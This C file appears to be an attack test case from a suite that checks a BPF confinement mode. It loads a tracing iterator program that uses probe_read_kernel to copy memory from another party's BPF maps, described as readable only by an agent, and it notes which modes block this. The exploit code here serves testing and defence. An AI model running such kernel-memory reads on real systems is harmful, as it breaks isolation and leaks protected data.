// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * A program that reads the memory of the kernel where the victim's maps lie, whose contents the agent alone may read.
 * Success: it gets a piece of a map out of the kernel.
 */
#include "bpf.h"

static void run(void)
{
	struct program program = { .type = BPF_PROG_TYPE_TRACING, .attach_type = BPF_TRACE_ITER, .attach_to = kernel_function("bpf_iter_bpf_map") };
	int found = must("BPF_MAP_CREATE", create_map(BPF_MAP_TYPE_ARRAY, 4, 8, 1, 0, 0)), iterator;
	union bpf_attr attr = {};
	char text[64];
	uint64_t value = 0;
	uint32_t zero = 0;

	attr.link_create.prog_fd = must("BPF_PROG_LOAD",
					LOAD(program, READ(BPF_DW, BPF_REG_3, BPF_REG_1, 8), IF(BPF_JEQ, BPF_REG_3, 0, 14), PUT(BPF_W, BPF_REG_10, -4, 0), MAP(BPF_REG_1, found),
					     COPY(BPF_REG_2, BPF_REG_10), ADD(BPF_REG_2, -4), COPY(BPF_REG_6, BPF_REG_3), CALL(BPF_FUNC_map_lookup_elem), IF(BPF_JEQ, BPF_REG_0, 0, 6),
					     COPY(BPF_REG_1, BPF_REG_0), SET(BPF_REG_2, 8), COPY(BPF_REG_3, BPF_REG_6), CALL(BPF_FUNC_probe_read_kernel), SET(BPF_REG_0, 0), RETURN,
					     SET(BPF_REG_0, 0), RETURN));
	attr.link_create.attach_type = BPF_TRACE_ITER;
	attr.iter_create.link_fd = must("BPF_LINK_CREATE", bpf(BPF_LINK_CREATE, &attr, sizeof(attr)));
	attr.iter_create.flags = 0;
	iterator = must("BPF_ITER_CREATE", bpf(BPF_ITER_CREATE, &attr, sizeof(attr.iter_create)));
	(void)!read(iterator, text, sizeof(text));
	must("BPF_MAP_LOOKUP_ELEM", look_up(found, &zero, &value));
	if (value)
		got("the memory of a map");
}

ATTACK("reads the memory of maps with a program", .run = run, .on_kernel = true,
       .because = "mode `pins` leaves others their tracing programs, which may read the kernel's memory: mode `full`, or `lockdown=confidentiality`");
